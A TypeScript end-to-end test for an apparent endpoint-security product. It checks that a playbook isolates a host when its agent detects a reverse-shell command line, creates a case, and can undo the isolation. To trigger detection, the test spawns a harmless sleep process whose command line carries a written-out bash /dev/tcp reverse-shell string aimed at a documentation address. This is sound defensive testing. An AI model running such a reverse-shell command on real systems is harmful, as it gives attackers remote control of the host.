import { spawn, type ChildProcess } from "node:child_process";
import { randomUUID } from "node:crypto";
import { rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type NetTopology, createTopology, netnsUnavailableReason, waitFor } from "../helpers/netns";
import { bootFromSource } from "./boot-source";
import { type NsAgent, nftTables, spawnNsAgent } from "./ns-agent";
import { type NsController, startNsController } from "./ns-controller";
import { waitFor as waitForValue } from "../../../controller/test/support/wait";

const PORT = 7711;
const PEER_PORT = 7712;
const REVERSE_SHELL_RULE = "71263d8f-467b-4633-90c2-b9f063acd0b4";
const skipReason = await netnsUnavailableReason();

if (skipReason) console.log(`SKIP playbook end-to-end test: ${skipReason}`);

const PLAYBOOK = `
id: isolate-reverse-shells
name: Isolate hosts running a reverse shell
when:
  rules: [${REVERSE_SHELL_RULE}]
actions:
  - type: isolate
approval: auto
`;

describe.skipIf(skipReason !== null)("detection → playbook → enforced isolation → case", () => {
  let topo: NetTopology;
  let nsc: NsController;
  let agent: NsAgent | undefined;
  let shell: ChildProcess | undefined;
  const wallLog = join(tmpdir(), `vigil-wall-pb-${process.pid}.log`);

  beforeAll(async () => {
    topo = await createTopology();
    nsc = await startNsController(topo.controller, PORT, bootFromSource);
    await topo.listen(topo.outside, PEER_PORT);
    await nsc.ctl.playbooks.save(PLAYBOOK, "test", "create");
  });
  afterAll(async () => {
    shell?.kill("SIGKILL");
    await agent?.crash();
    await nsc?.dispose();
    await topo?.destroy();
    rmSync(wallLog, { force: true });
  });

  it("a reverse-shell command line on the host gets the host isolated, and the case shows alert, command and result", async () => {
    agent = spawnNsAgent(topo.host, { controller: nsc.address, wallLog, processSensor: true });
    expect(await waitFor(() => nsc.ctl.registry.session(agent!.agentId) !== undefined, 15_000), agent.output()).toBe(true);
    expect(await topo.canConnect(topo.host, topo.outside.ip4, PEER_PORT)).toBe(true);

    // A harmless process whose command line is what a reverse shell looks like (it never connects);
    // two commands, so bash cannot exec sleep in its place and keeps the command line.
    const marker = randomUUID().slice(0, 8);
    shell = spawn("bash", ["-c", `sleep 30; true # bash -i >& /dev/tcp/192.0.2.1/4444 0>&1 ${marker}`], { stdio: "ignore" });

    expect(await waitFor(async () => (await nftTables(topo.host)).includes("inet vigil_isolate"), 30_000), agent.output()).toBe(true);
    expect(await topo.canConnect(topo.host, topo.outside.ip4, PEER_PORT, 700)).toBe(false);
    expect(await topo.canConnect(topo.host, topo.controller.ip4, PORT)).toBe(true);

    const alert = await waitForValue(
      "the alert",
      async () => {
        const r = await nsc.get(`/api/v1/alerts?rule=${REVERSE_SHELL_RULE}&agent=${agent!.agentId}`);
        return r.body.items?.[0];
      },
      15_000,
    );
    expect(alert.caseId).toBeTruthy();
    const story = await waitForValue(
      "the case with the isolation's result",
      async () => {
        const r = await nsc.get(`/api/v1/cases/${alert.caseId}`);
        return r.body.actions?.some((a: { type: string; state: string }) => a.type === "isolate" && a.state === "succeeded") ? r.body : undefined;
      },
      15_000,
    );
    expect(story.alerts.map((a: { id: string }) => a.id)).toContain(alert.id);
    const iso = story.actions.find((a: { type: string }) => a.type === "isolate");
    expect(iso.requestedBy).toBe("playbook:isolate-reverse-shells@v1");
    expect(story.playbookDecisions[0]).toMatchObject({ type: "isolate", state: "issued", commandId: iso.id });
    expect(story.timeline.some((t: { kind: string }) => t.kind === "action_result")).toBe(true);

    // Undo from the case: the release reaches the agent and the host is reachable again.
    const undone = await nsc.ctl.commands.undo(iso.id, "test");
    expect(undone.type).toBe("release");
    expect(await waitFor(async () => !(await nftTables(topo.host)).includes("inet vigil_isolate"), 15_000)).toBe(true);
    expect(await topo.canConnect(topo.host, topo.outside.ip4, PEER_PORT)).toBe(true);
  });
});
